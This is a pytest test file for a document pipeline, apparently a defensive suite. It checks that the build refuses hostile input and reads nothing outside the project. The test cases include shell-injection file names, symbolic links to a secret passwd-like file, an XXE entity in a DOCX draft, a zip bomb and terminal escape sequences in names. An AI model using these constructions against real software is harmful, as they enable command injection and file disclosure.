"""Hostile and careless input, and a faulty machine: no shell, no file outside the project, one
line naming the right file, no hang, the other documents built, the last good outputs kept.

Each `doit` here runs with a time limit, under a Python audit hook that reports every file
the build (its workers too) opens outside the project, the repository and Python itself.
"""

import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pipeline import files
from pipeline.errors import PipelineError
from pipeline.tasks.project import Project

from .conftest import ROOT
from .support import own_temporary_folder
from .test_docx_reader import refusal

GOOD = "Opening the stacks\n\nThe stacks of the central library were opened on 2 May.\n"
SECRET = "root:x:0:0:the secret words of another file:/root:/bin/bash\n"
# Files opened by the build that are not the project's but are fine: Python, its packages, the
# repository's code, and the temporary files libraries make (never those of the test's folder).
MIME_TYPES = "/etc/mime.types"  # the machine's file types, which WeasyPrint's mimetypes reads
AUDITED_DOIT = """
import os, sys, tempfile
allowed = tuple(sys.argv[1].split(os.pathsep))
temporary, watched = tempfile.gettempdir(), sys.argv[2]
def hook(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        path = os.path.realpath(os.fsdecode(arguments[0]))
        if not path.startswith(allowed) and (path.startswith(watched)
                                             or not path.startswith(temporary)):
            sys.stderr.write(f"opened outside the project: {path}\\n")
sys.addaudithook(hook)
from doit.doit_cmd import DoitMain
sys.exit(DoitMain().run(sys.argv[3:]))
"""


def new_project(folder: Path, texts: dict[str, str] | None = None) -> Path:
    """dodo.py, the layouts (their fonts hard-linked: no test changes a font file in place)
    and source/ holding `texts` (file name -> text)."""
    folder.mkdir(parents=True)
    shutil.copy(ROOT / "dodo.py", folder / "dodo.py")
    shutil.copytree(ROOT / "layouts", folder / "layouts", ignore=shutil.ignore_patterns("fonts"))
    shutil.copytree(ROOT / "layouts" / "fonts", folder / "layouts" / "fonts",
                    copy_function=os.link)
    (folder / "source").mkdir()
    for name, text in (texts or {}).items():
        (folder / "source" / name).write_text(text, encoding="utf-8")
    return folder


def audited_doit(folder: Path, *arguments: str, limit: float = 60,
                 watched: Path | None = None) -> subprocess.CompletedProcess:
    """`doit arguments` in `folder`, which must end within `limit` seconds; the output says
    each file opened outside the project (always, under `watched`)."""
    allowed = os.pathsep.join([str(folder.resolve()), str(ROOT), sys.prefix, sys.base_prefix,
                               "/dev/null", "/proc/", MIME_TYPES])
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-c", AUDITED_DOIT, allowed, str((watched or folder).resolve()),
         *arguments], cwd=folder, capture_output=True, text=True, timeout=limit)
    result.seconds = time.monotonic() - started
    return result


def said(result: subprocess.CompletedProcess) -> str:
    return result.stdout + result.stderr


def assert_clean_console(result: subprocess.CompletedProcess) -> None:
    """No traceback, no Python exception name, nothing opened outside the project."""
    output = said(result)
    assert "Traceback" not in output, output[-3000:]
    assert "opened outside the project" not in output, output[-3000:]
    assert not [word for word in output.split() if word.rstrip(":,").endswith("Error")], output


# --- 1. doit clean: no shell ------------------------------------------------------------------

HOSTILE_NAMES = ["x$(touch PWNED)", "a;touch PWNED;b", "a * b"]


def test_clean_removes_only_built_files_whatever_the_names(tmp_path):
    folder = new_project(tmp_path / "project", {f"{name}.txt": GOOD for name in HOSTILE_NAMES})
    for decoy in ("README.md", "pyproject.toml", "notes.txt"):
        (folder / decoy).write_text("# keep me\n")
    assert audited_doit(folder, "model").returncode == 0
    for name in HOSTILE_NAMES:
        preview = folder / "output" / name / "preview"
        preview.mkdir()
        for built in (f"{name}-print-p001.png", f"{name}-print-contact-01.png",
                      f"{name}-screen-p012.png"):
            (preview / built).write_bytes(b"png")
        (preview / "an editor's picture.png").write_bytes(b"png")
        (folder / "output" / name / "notes.txt").write_text("keep me\n")
    result = audited_doit(folder, "clean")
    assert result.returncode == 0, said(result)
    assert_clean_console(result)
    assert not list(folder.rglob("PWNED"))
    assert all((folder / decoy).exists() for decoy in ("README.md", "pyproject.toml",
                                                        "notes.txt", "dodo.py"))
    for name in HOSTILE_NAMES:
        left = sorted(path.name for path in (folder / "output" / name).rglob("*"))
        assert left == ["an editor's picture.png", "notes.txt", "preview"], left
    assert sorted(path.name for path in (folder / "source").iterdir()) == \
        sorted(f"{name}.txt" for name in HOSTILE_NAMES)


@pytest.mark.slow  # two `doit model` and their cleans
def test_clean_says_each_refusal_once_ends_non_zero_and_says_what_it_removed(tmp_path):
    folder = new_project(tmp_path / "project", {"good.txt": GOOD, "other.txt": GOOD})
    assert audited_doit(folder, "model").returncode == 0
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.json").write_text("{}\n")
    shutil.rmtree(folder / "output" / "good")
    (folder / "output" / "good").symlink_to(outside)
    result = audited_doit(folder, "clean")
    assert result.returncode != 0
    assert_clean_console(result)
    assert said(result).splitlines() == [
        f"error: output/good: is a symbolic link leading out of output/ (to {outside.resolve()});"
        " only files inside the project are read or written",
        "removed output/other/ (3 files)"]
    assert (outside / "keep.json").exists()
    (folder / "output" / "good").unlink()
    assert audited_doit(folder, "model").returncode == 0
    result = audited_doit(folder, "clean")
    assert result.returncode == 0
    assert said(result).splitlines() == ["removed output/good/ (3 files)",
                                         "removed output/other/ (3 files)"]
    assert said(audited_doit(folder, "clean")) == ""  # nothing left: nothing said


# --- 2 and 3. Symbolic links, odd files and broken metadata: a task that fails in one line ------

# name -> (how to make the case in (project, outside), the line expected)
def link(target: Path, link_path: Path) -> None:
    link_path.parent.mkdir(parents=True, exist_ok=True)
    link_path.symlink_to(target)


def text(name: str, toml: str | None = None):
    def make(project: Path, outside: Path) -> None:
        (project / "source" / f"{name}.txt").write_text(GOOD)
        if toml is not None:
            (project / "source" / f"{name}.toml").write_text(toml)
    return make


def hostile_draft(name: str, make_draft):
    """A text and, as its edited draft, the pipeline's draft changed by `make_draft`."""
    def make(project: Path, outside: Path) -> None:
        (project / "source" / f"{name}.txt").write_text(GOOD)
        (project / "output" / name).mkdir(parents=True)
        (project / "output" / name / f"{name}.docx").write_bytes(make_draft(a_draft(), outside))
    return make


def both(*makers):
    def make(project: Path, outside: Path) -> None:
        for maker in makers:
            maker(project, outside)
    return make


CASES = {
    "passwd": (lambda p, o: link(o / "secret.txt", p / "source" / "passwd.txt"),
               "source/passwd.txt: is a symbolic link leading out of source/"),
    "linked-toml": (both(text("linked-toml"),
                         lambda p, o: link(o / "meta.toml", p / "source" / "linked-toml.toml")),
                    "source/linked-toml.toml: is a symbolic link leading out of source/"),
    "linked-images": (both(text("linked-images", '[images]\n1 = "photos/photo.png"\n'),
                           lambda p, o: link(o / "photos", p / "source" / "photos")),
                      "source/linked-images.toml: image 'photos/photo.png' lies outside source/"),
    "linked-draft": (both(text("linked-draft"), lambda p, o: link(
        o / "draft.docx", p / "output" / "linked-draft" / "linked-draft.docx")),
        "output/linked-draft/linked-draft.docx: is a symbolic link leading out of linked-draft/"),
    "linked-output": (both(text("linked-output"),
                           lambda p, o: link(o / "out", p / "output" / "linked-output")),
                      "output/linked-output: is a symbolic link leading out of output/"),
    "loop": (lambda p, o: link(p / "source" / "loop.txt", p / "source" / "loop.txt"),
             "source/loop.txt: is a loop of symbolic links"),
    "folder": (lambda p, o: (p / "source" / "folder.txt").mkdir(),
               "source/folder.txt: is a folder, not a file"),
    "pipe": (lambda p, o: os.mkfifo(p / "source" / "pipe.txt"),
             "source/pipe.txt: is not an ordinary file"),
    "dots": (lambda p, o: (p / "source" / "...txt").write_text(GOOD),
             "source/...txt: its name '..' cannot name a folder in output/"),
    "control-name": (lambda p, o: (p / "source" / "esc\x1b[41mRED\x1b[0m.txt").write_text(GOOD),
                     "source/esc\\x1b[41mRED\\x1b[0m.txt: its name holds \\x1b, which a terminal"
                     " acts on rather than shows; rename the file"),
    "undecoded-name": (lambda p, o: (p / "source" / "bad\udcff\udcfeend.txt").write_text(GOOD),
                       "source/bad\\xff\\xfeend.txt: its name is not valid UTF-8 (its bytes"
                       " \\xff, \\xfe spell no character); rename the file"),
    "long-name": (lambda p, o: (p / "source" / f"{'L' * 240}.txt").write_text(GOOD),
                  f"source/{'L' * 240}.txt: its name is too long (240 bytes; at most 213)"),
    "nul-image": (text("nul-image", '[images]\n1 = "photo\\u0000.png"\n'),
                  "source/nul-image.toml: image 'photo\\x00.png' holds \\x00, which no file's name holds"),
    "deep-arrays": (text("deep-arrays", "title = " + "[" * 5000 + "]" * 5000 + "\n"),
                    "source/deep-arrays.toml: arrays or tables nested too deeply"),
    "deep-keys": (text("deep-keys", "images.1" + ".a" * 20000 + " = 1\n"),
                  "source/deep-keys.toml: keys nested too deeply"),
    "table-for-text": (text("table-for-text", "images.1.a = 1\n"),
                       "source/table-for-text.toml: images.1 must be text in quotes, not a table"),
    "toml-folder": (both(text("toml-folder"),
                         lambda p, o: (p / "source" / "toml-folder.toml").mkdir()),
                    "source/toml-folder.toml: is a folder, not a file"),
    "many-texts": (lambda p, o: (p / "source" / "many-texts.txt").write_text(
        "".join(f"Item {number}\n\nA line.\n\n" for number in range(10_100))),
        "source/many-texts.txt: holds 20,20"),
    "huge-toml": (text("huge-toml", 'title = "' + "x" * 300_000 + '"\n'),
                  "source/huge-toml.toml: too large (300,011 bytes; the limit is 262,144)"),
    "entity-draft": (hostile_draft("entity-draft", lambda draft, outside: with_entity(
        draft, "word/document.xml", (outside / "secret.txt").as_uri())),
        "output/entity-draft/entity-draft.docx: its part word/document.xml declares a DTD"),
    "external-styles": (hostile_draft("external-styles", lambda draft, outside: related_outside(
        draft, "styles.xml", (outside / "secret.txt").as_uri())),
        "output/external-styles/external-styles.docx: its part word/document.xml takes its"
        " styles from a file outside the draft"),
}
DRAFT_CASES = ("entity-draft", "external-styles")


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    """One `doit model` over every case above and a good text."""
    folder = tmp_path_factory.mktemp("hostile")
    outside = folder / "outside"
    (outside / "photos").mkdir(parents=True)
    (outside / "out").mkdir()
    (outside / "secret.txt").write_text(SECRET)
    (outside / "meta.toml").write_text('title = "The secret title"\n')
    shutil.copy(ROOT / "layouts" / "print" / "colour" / "FOGRA39L-coated.icc",
                outside / "photos" / "photo.png")
    project = new_project(folder / "project", {"good.txt": GOOD})
    for make, _ in CASES.values():
        make(project, outside)
    return project, audited_doit(project, "model", watched=folder)


@pytest.mark.slow  # one `doit model` over every case
@pytest.mark.parametrize("case", CASES)
def test_each_case_fails_its_document_in_one_line(refused, case):
    project, result = refused
    expected = CASES[case][1]
    assert [line for line in said(result).splitlines() if line == f"error: {expected}"
            or line.startswith(f"error: {expected}")], said(result)[-3000:]


@pytest.mark.slow  # one `doit model` over every case
def test_a_hostile_draft_refused_leaves_no_marked_up_source(refused):
    project, _ = refused
    for name in DRAFT_CASES:
        assert (project / "output" / name / f"{name}.docx").exists()
        assert not (project / "source" / f"{name}.md").exists()
        assert not (project / "output" / name / f"{name}.json").exists()


@pytest.mark.slow  # one `doit model` over every case
def test_the_build_refusing_them_ends_at_once_reads_nothing_outside(refused):
    project, result = refused
    assert result.returncode != 0
    assert result.seconds < 60
    assert_clean_console(result)
    assert "the secret" not in said(result)
    assert (project / "output" / "good" / "good.json").exists()
    # Nothing was written beside the project's own files, nor outside it.
    # (doit's own files and Python's compiled dodo.py aside)
    assert sorted(path.name for path in project.iterdir()
                  if not path.name.startswith(".doit.") and path.name != "__pycache__") == \
        ["dodo.py", "layouts", "output", "source"]
    assert sorted(path.name for path in (project.parent / "outside").rglob("*")) == \
        ["meta.toml", "out", "photo.png", "photos", "secret.txt"]


@pytest.mark.parametrize("letter", ["L", "年"])  # a Chinese character is 3 bytes in UTF-8
def test_a_name_too_long_for_the_files_built_of_it_is_refused_and_one_as_long_builds(
        tmp_path, letter):
    project = Project(new_project(tmp_path / "project"))
    room = project.name_room
    longest = letter * (room // len(letter.encode()))
    too_long = longest + letter
    for name in (longest, too_long):
        (project.source_dir / f"{name}.txt").write_text(GOOD)
    assert project.documents() == [longest]
    [refused] = project.misnamed()
    assert refused.seen_from(project.root) == (
        f"source/{too_long}.txt: its name is too long ({len(too_long.encode())} bytes;"
        f" at most {room})")
    # Every file the build names after it, staged under its temporary name, can be written.
    for path in [*project.outputs(longest, project.layouts()),
                 *(project.contact_sheet(longest, layout) for layout in project.layouts())]:
        files.write_bytes(path, b"built")


def test_a_write_removes_the_temporaries_killed_writes_of_its_file_left_and_only_those(tmp_path):
    """Told by name, a glob's marks (`[`, `*`) in it standing for themselves."""
    path = tmp_path / "a[1]*.pdf"
    left = [tmp_path / ".a[1]*.pdf.k3x9q2ab.part", tmp_path / ".a[1]*.pdf..part"]
    kept = [tmp_path / name for name in (".a1x.pdf.k3x9q2ab.part", ".a[1]*.pdf.part",
                                         ".a[1]*.pdf.k3x9q2ab", "a[1]*.pdf.k3x9q2ab.part")]
    for temporary in [*left, *kept]:
        temporary.write_bytes(b"half")
    files.write_bytes(path, b"built")
    assert sorted(tmp_path.iterdir()) == sorted([path, *kept])
    assert path.read_bytes() == b"built"


@pytest.mark.parametrize(("name", "shown", "held"), [
    ("esc\x1b[41mRED\x1b[0m", "esc\\x1b[41mRED\\x1b[0m", "\\x1b"),
    ("cr\rBuilt 0 tasks; all fine", "cr\\rBuilt 0 tasks; all fine", "\\r"),
    ("new\nline\tand tab", "new\\nline\\tand tab", "\\n, \\t"),
    ("report\u202egpj.exe", "report\\u202egpj.exe", "\\u202e"),
    ("年報\x7f", "年報\\x7f", "\\x7f"),
])
def test_a_name_holding_what_a_terminal_acts_on_is_refused_shown_escaped(tmp_path, name, shown,
                                                                         held):
    """Such a name had reached the console raw in task lines and the summary (an escape
    sequence colouring it, a carriage return writing over the line), and named a folder."""
    project = Project(new_project(tmp_path / "project", {"good.txt": GOOD}))
    (project.source_dir / f"{name}.md").write_text("Title: A\n\nText.\n")
    assert project.documents() == ["good"]
    [refused] = project.misnamed()
    assert refused.seen_from(project.root) == (
        f"source/{shown}.md: its name holds {held}, which a terminal acts on rather than"
        " shows; rename the file")
    assert refused.path.stem == shown  # the refusing task's name


@pytest.mark.parametrize(("name", "shown", "held"), [
    ("bad\udcff\udcfeend", "bad\\xff\\xfeend", "\\xff, \\xfe"),  # no UTF-8 at all
    ("r\udce9sum\udce9", "r\\xe9sum\\xe9", "\\xe9"),  # Latin-1's résumé
    ("年\udce5\udcb9", "年\\xe5\\xb9", "\\xe5, \\xb9"),  # 年報 cut inside 報
])
def test_a_name_not_utf8_is_refused_shown_escaped(tmp_path, name, shown, held):
    """Such a name had stopped every build with a traceback: doit's database, the console
    and the model's files hold UTF-8 only."""
    project = Project(new_project(tmp_path / "project", {"good.txt": GOOD}))
    (project.source_dir / f"{name}.txt").write_text(GOOD)
    assert project.documents() == ["good"]
    [refused] = project.misnamed()
    assert refused.seen_from(project.root) == (
        f"source/{shown}.txt: its name is not valid UTF-8 (its bytes {held} spell no"
        " character); rename the file")
    assert refused.path.stem == shown  # the refusing task's name
    str(refused).encode()  # nothing in the message a terminal of UTF-8 cannot take


def test_a_layout_file_leading_out_is_refused_and_never_hashed(tmp_path):
    project = Project(new_project(tmp_path / "project", {"good.txt": GOOD}))
    (tmp_path / "evil.css").write_text("body { color: red }\n")
    (project.layouts_dir / "print" / "evil.css").symlink_to(tmp_path / "evil.css")
    style = project.layouts_dir / "print" / "style.css"
    style.unlink()  # a hard link to the repository's: never written through
    style.write_text('@import url("evil.css");\n'
                     + (ROOT / "layouts" / "print" / "style.css").read_text(encoding="utf-8"))
    assert project.layouts_dir / "print" / "evil.css" not in project.layout_files("print")
    with pytest.raises(PipelineError, match="evil.css: is a symbolic link leading out"):
        project.refuse_escapes("good", ["print"])
    project.refuse_escapes("good", ["screen"])  # other layouts are not concerned


def test_links_followed_once_a_folder_lead_where_path_resolve_leads(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "plain.txt").write_text("x")
    (tmp_path / "outside.txt").write_text("x")
    (tmp_path / "folder").symlink_to(tmp_path / "real")
    (tmp_path / "real" / "out.txt").symlink_to(tmp_path / "outside.txt")
    (tmp_path / "real" / "loop").symlink_to(tmp_path / "real" / "loop")
    links = files.Links()
    for path in [tmp_path / "folder" / name for name in ("plain.txt", "out.txt", "missing.txt",
                                                         ".", "..")] + [
            tmp_path / "folder" / ".." / "outside.txt", tmp_path / "real" / "plain.txt"]:
        assert links.resolved(path) == path.resolve(), path
    with pytest.raises(PipelineError, match="loop: is a loop of symbolic links"):
        links.resolved(tmp_path / "folder" / "loop")
    with pytest.raises(PipelineError, match="out.txt: is a symbolic link leading out of real/"):
        files.input_file(tmp_path / "folder" / "out.txt", tmp_path / "real", links)


def test_an_unreadable_source_is_named(tmp_path, monkeypatch):
    project = Project(new_project(tmp_path / "project", {"good.txt": GOOD}))
    if os.geteuid() != 0:
        (project.source_dir / "good.txt").chmod(0)
    else:  # root reads everything: pretend it may not
        monkeypatch.setattr(os, "access", lambda *arguments, **options: False)
    with pytest.raises(PipelineError, match="good.txt: cannot be read: permission denied"):
        project.refuse_escapes("good")


# --- 3. A worker that dies ends its task in one line; the build ends, the lock is freed -------


@pytest.mark.slow
def test_a_build_interrupted_leaves_no_copies_of_faces_behind(tmp_path):
    """The build stops its workers (SIGTERM) when it is interrupted, as they build the PDFs:
    each still removes the copies of faces it made in the temporary folder (of a face
    WeasyPrint copies: the repository's are registered where they lie)."""
    folder = new_project(tmp_path / "project", busy_sources())
    environment = own_temporary_folder(tmp_path)
    process = subprocess.Popen([sys.executable, "-m", "doit", "-n", "2"], cwd=folder,
                               env=environment, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    until_pdfs_are_due(folder / "output" / "small" / "small.json")
    process.send_signal(signal.SIGINT)  # the build alone, as a failure of its own would
    process.communicate(timeout=120)
    assert process.returncode != 0
    assert not list(Path(environment["TMPDIR"]).glob("weasyprint-*"))


def busy_sources() -> dict[str, str]:
    """Texts whose PDFs keep the workers busy for some seconds after the first model is
    written, so a signal sent then finds the build still running on a loaded machine."""
    return {"small.txt": GOOD, **{f"more-{number}.txt": GOOD for number in range(5)}}


def until_pdfs_are_due(model: Path) -> None:
    """Until the build has written the document's `model`: the workers then build its PDFs."""
    deadline = time.monotonic() + 60
    while not model.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert model.exists()


@pytest.mark.slow
def test_ctrl_c_ends_the_build_in_one_line_and_leaves_nothing_running(tmp_path):
    """Ctrl-C at a terminal reaches the build and all its workers (the terminal's process
    group): the build stops them and says in one line that it was interrupted, with no
    traceback, and ends as an interrupted program does (130); the next build goes on."""
    folder = new_project(tmp_path / "project", busy_sources())
    environment = own_temporary_folder(tmp_path)
    process = subprocess.Popen([sys.executable, "-m", "doit", "-n", "2"], cwd=folder,
                               env=environment, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True, start_new_session=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    until_pdfs_are_due(folder / "output" / "small" / "small.json")
    os.killpg(process.pid, signal.SIGINT)
    output = process.communicate(timeout=120)[0]
    assert process.returncode == 130, output
    assert "Traceback" not in output and "KeyboardInterrupt" not in output
    assert output.splitlines()[-1].startswith("Interrupted after ")
    assert not list(Path(environment["TMPDIR"]).glob("weasyprint-*"))
    assert subprocess.run(["pgrep", "-g", str(process.pid)], capture_output=True).returncode
    rebuilt = subprocess.run([sys.executable, "-m", "doit", "-n", "2"], cwd=folder,
                             env=environment, capture_output=True, text=True)
    assert rebuilt.returncode == 0, rebuilt.stdout + rebuilt.stderr


@pytest.mark.slow
def test_a_killed_worker_fails_its_task_and_the_build_ends(tmp_path):
    folder = new_project(tmp_path / "project", {"small.txt": GOOD,
                                                "small.toml": 'layouts = ["screen"]\n'})
    process = subprocess.Popen([sys.executable, "-m", "doit", "-n", "2"], cwd=folder,
                               env=own_temporary_folder(tmp_path),
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    lines = []
    for line in process.stdout:  # the workers are busy once a PDF is being made
        lines.append(line)
        if line.startswith(".  pdf:"):
            break
    workers = subprocess.run(["pgrep", "-P", str(process.pid)], capture_output=True,
                             text=True).stdout.split()
    assert workers
    for worker in workers:
        os.kill(int(worker), signal.SIGKILL)
    rest, _ = process.communicate(timeout=120)
    output = "".join(lines) + rest
    assert process.returncode != 0
    assert "error: source/small.txt: the process building pdf:small/screen was killed " \
           "(SIGKILL, as when memory runs out); the build went on without it" in output, output
    assert "Traceback" not in output
    again = audited_doit(folder, limit=300)  # the lock is free, and the next build finishes
    assert again.returncode == 0, said(again)
    assert (folder / "output" / "small" / "small-screen.pdf").exists()


# --- Layouts: lengths and the output profile ----------------------------------------------------


def a_layout(tmp_path: Path, page: str = "", settings: str = "") -> Path:
    """layouts/print copied, the line `page` set in its [page] table, `settings` at its top."""
    layouts = tmp_path / "layouts"
    shutil.copytree(ROOT / "layouts" / "print", layouts / "print")
    path = layouts / "print" / "layout.toml"
    changed = {line.split("=")[0].strip() for line in (page, settings) if line}
    kept = [line for line in path.read_text().splitlines()
            if line.split("=")[0].strip() not in changed]
    path.write_text(settings + "\n" + "\n".join(kept).replace("[page]", f"[page]\n{page}"))
    return layouts


@pytest.mark.parametrize("page, settings, expected", [
    ("margin_left_mm = -5.0", "", "margin_left_mm must be a number of 0 or more, not -5.0"),
    ("bleed_mm = -3.0", "", "bleed_mm must be a number of 0 or more, not -3.0"),
    ("margin_top_mm = nan", "", "margin_top_mm must be a number of 0 or more, not nan"),
    ("margin_right_mm = \"wide\"", "", "margin_right_mm must be a number of 0 or more"),
    ("margin_left_mm = 190.0", "", "the margins leave no room for text on the A4 page"),
    ("", "body_size_pt = 0", "body_size_pt must be more than 0"),
    ("", 'output_profile = "../../outside.icc"', "output_profile '../../outside.icc' lies "
                                                  "outside layouts/"),
    ("", 'output_profile = "/etc/colour.icc"', "output_profile '/etc/colour.icc' lies outside"),
])
def test_a_layout_with_impossible_lengths_or_a_profile_elsewhere_is_refused(
        tmp_path, page, settings, expected):
    from pipeline.layouts import load_layout

    layouts = a_layout(tmp_path, page, settings)
    with pytest.raises(PipelineError) as refusal:
        load_layout(layouts, "print")
    assert str(refusal.value).startswith(f"{layouts / 'print' / 'layout.toml'}: {expected}")


# --- 4. Bounded work ---------------------------------------------------------------------------


def test_cleaning_a_paragraph_of_the_longest_line_in_many_runs_takes_linear_time():
    """A paragraph as long as a line may be (100,000 characters), in runs of every length
    down to one character, as Word writes them: cleaned in seconds, not hours."""
    from pipeline.model import Span, plain
    from pipeline.readers.cleaning import clean_spans
    from pipeline.readers.decoding import MAX_LINE_CHARACTERS

    sentence = 'The "year" 2024 -- was... a 12 per cent rise, Mr Smith said. '
    text = (sentence * (MAX_LINE_CHARACTERS // len(sentence) + 1))[:MAX_LINE_CHARACTERS]
    runs = []
    position = 0
    while position < len(text):
        length = 1 + position % 7
        runs.append(Span(text[position:position + length], bold=len(runs) % 3 == 0))
        position += length
    started = time.monotonic()
    cleaned = clean_spans(runs)
    assert time.monotonic() - started < 20
    assert plain(cleaned).startswith("The ‘year’ 2024\u00a0– was… a 12\u00a0per\u00a0cent rise, Mr\u00a0Smith")
    assert plain(clean_spans([Span(plain(cleaned))])) == plain(cleaned)


@pytest.mark.slow
@pytest.mark.parametrize("run", ["a", "a(", "a.", "www.", "http://", "a@", "a-1", "a_", "[1]"])
def test_a_line_as_long_as_may_be_of_an_addresss_or_a_codes_characters_reads_in_linear_time(
        run):
    """A line of 100,000 characters that an address, a file name, a code or note calls
    (`[1][1]…`, cut inside the last) are made of, and that is none: each is sought where a
    run of its characters starts, or within its bounds (a file name's 255 characters, a
    code's parts), so the line is read once, not once a character."""
    from pipeline.model import Metadata
    from pipeline.readers.decoding import MAX_LINE_CHARACTERS
    from pipeline.readers.scraped import scraped_document

    line = (run * (MAX_LINE_CHARACTERS // len(run) + 1))[:MAX_LINE_CHARACTERS]
    started = time.monotonic()
    document, _ = scraped_document("page", f"The Trust had its busiest year.\n\n{line}\n\n"
                                   "More text follows.", Metadata(title="Report"))
    assert time.monotonic() - started < 20
    assert len(document.blocks) == 3


@pytest.mark.slow
@pytest.mark.parametrize("run", ["[", "[a](", "[^1", "*a"])
def test_a_marked_up_line_of_brackets_that_never_close_reads_in_linear_time(run):
    """A marked-up line as long as a line may be of brackets that never close, links that
    never end or note references cut short: where each bracket closes is found in one pass
    for them all, a note's label holds no bracket (as pandoc reads one), asterisks are
    counted where they stand."""
    from pipeline.model import Metadata
    from pipeline.readers.decoding import MAX_LINE_CHARACTERS
    from pipeline.readers.markup import read_markup

    line = (run * (MAX_LINE_CHARACTERS // len(run) + 1))[:MAX_LINE_CHARACTERS]
    started = time.monotonic()
    document = read_markup(f"Title: Report\n\nThe Trust had its busiest year.\n\n{line}\n",
                           Path("piece.md"), Metadata(title="Report"), Path("."))
    assert time.monotonic() - started < 20
    assert len(document.blocks) == 2


@pytest.mark.slow
@pytest.mark.parametrize("ending", [
    "\n".join(f"{'*' * (1 + line % 3)} a note no word calls" for line in range(20_000)),
    "\n\n".join(["* A line a symbol labels"] * 20_000),
    ". " * 50_000 + "no page",  # a leader of dots as long as a line may be, and no page
], ids=["labels", "labelled blocks", "leader"])  # fmt: skip
def test_a_text_ending_in_many_lines_a_symbol_labels_or_a_long_leader_reads_in_linear_time(
        ending):
    """Each line a symbol labels asks whether the text above calls it: where the text calls
    each label is found once, not once a line; a contents entry is read from its end."""
    from pipeline.model import Metadata
    from pipeline.readers.scraped import scraped_document

    started = time.monotonic()
    document, _ = scraped_document("page", "The Trust had its busiest year.\n\n" + ending,
                                   Metadata(title="Report"))
    assert time.monotonic() - started < 20
    assert document.blocks


@pytest.mark.parametrize("style", ["trad-chinese-informal", "lower-alpha", "upper-roman",
                                   "decimal"])
def test_a_list_of_120_items_reads_back_from_the_marked_up_form(style):
    """Beyond 九十九 or z an item's marker is its number (only the first marker says the
    list's style), so a long list imported from a DOCX neither fails nor merges items."""
    from pipeline.model import Document, List, ListItem, Metadata, Paragraph, Span
    from pipeline.readers.markup import read_markup
    from pipeline.writers.markup import write_markup

    items = tuple(ListItem((Span(f"第{number}項的內容"),)) for number in range(1, 121))
    document = Document("list", Metadata(title="清單", language="zh-HK"), None,
                        (Paragraph((Span("以下各項："),)), List(items, style, 1)))
    markup = write_markup(document)
    assert read_markup(markup, Path("list.md"), document.metadata, Path("source")) == document
    if style == "upper-roman":
        assert "XCIX. 第99項的內容" in markup.splitlines()


# --- The DOCX draft: checked before it is unpacked ---------------------------------------------


def a_draft(blocks=None) -> bytes:
    """A DOCX draft as the pipeline writes it: a paragraph and a note, by default."""
    from pipeline.layouts import load_layout
    from pipeline.model import Document, Metadata, Note, Paragraph, Span
    from pipeline.writers.docx.draft import write_docx

    blocks = blocks or (Paragraph((Span("A paragraph with a note"), Span("1", note="1"),
                                   Span(" in it."))),
                        Note("1", (Span("The note."),)))
    document = Document("draft", Metadata(title="A draft"), None, tuple(blocks))
    return write_docx(document, load_layout(ROOT / "layouts", "print"), ROOT / "source")


def repacked(data: bytes, replace: dict[str, bytes] | None = None,
             add: dict[str, bytes] | None = None) -> bytes:
    """The DOCX `data` with parts replaced and added."""
    import io
    import zipfile

    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            target.writestr(part.filename, (replace or {}).get(part.filename,
                                                               source.read(part.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return result.getvalue()


def part_of(data: bytes, name: str) -> bytes:
    import io
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def with_dtd(xml: bytes, declaration: str) -> bytes:
    """The XML `xml` with the document type `declaration` before its root element."""
    head, end, rest = xml.partition(b"?>") if xml.startswith(b"<?xml") else (b"", b"", xml)
    return head + end + declaration.encode() + rest


def with_entity(draft: bytes, part: str, target: str) -> bytes:
    """The draft whose part `part` declares an entity standing for the file `target`, and the
    document's first words use it."""
    xml = with_dtd(part_of(draft, part), f'<!DOCTYPE root [<!ENTITY e SYSTEM "{target}">]>')
    return repacked(draft, replace={part: xml.replace(b"A paragraph with", b"A paragraph &e; with")})


def related_outside(draft: bytes, target: str, outside: str) -> bytes:
    """The draft whose document relates to the file `outside` instead of its part `target`."""
    rels = part_of(draft, "word/_rels/document.xml.rels")
    changed = rels.replace(f'Target="{target}"/>'.encode(),
                           f'Target="{outside}" TargetMode="External"/>'.encode())
    assert changed != rels
    return repacked(draft, replace={"word/_rels/document.xml.rels": changed})


def many_paragraphs(count: int, words: tuple[str, str, str]) -> bytes:
    """A draft of `count` paragraphs of three runs each, the second bold: `words` ("{}" in
    the first stands for the paragraph's number)."""
    draft = a_draft()
    document = part_of(draft, "word/document.xml").decode()
    start, end = document.index("<w:body>") + len("<w:body>"), document.index("<w:sectPr")
    first, bold, last = words
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{first.format(number)}</w:t></w:r><w:r><w:rPr>'
        f'<w:b/></w:rPr><w:t>{bold}</w:t></w:r><w:r><w:t xml:space="preserve">{last}</w:t>'
        '</w:r></w:p>' for number in range(count))
    return repacked(draft, replace={
        "word/document.xml": (document[:start] + paragraphs + document[end:]).encode()})


def read_back(data: bytes):
    from pipeline.model import Metadata
    from pipeline.readers.docx.draft import docx_document

    return docx_document(data, Path("output/draft/draft.docx"), Metadata(title="A draft"))


def test_a_draft_reads_back():
    from pipeline.model import Note

    assert isinstance(read_back(a_draft()).blocks[-1], Note)


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    started = time.monotonic()
    bomb = repacked(a_draft(), add={"customXml/item9.xml": b" " * (65 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    with pytest.raises(PipelineError) as refusal:
        read_back(bomb)
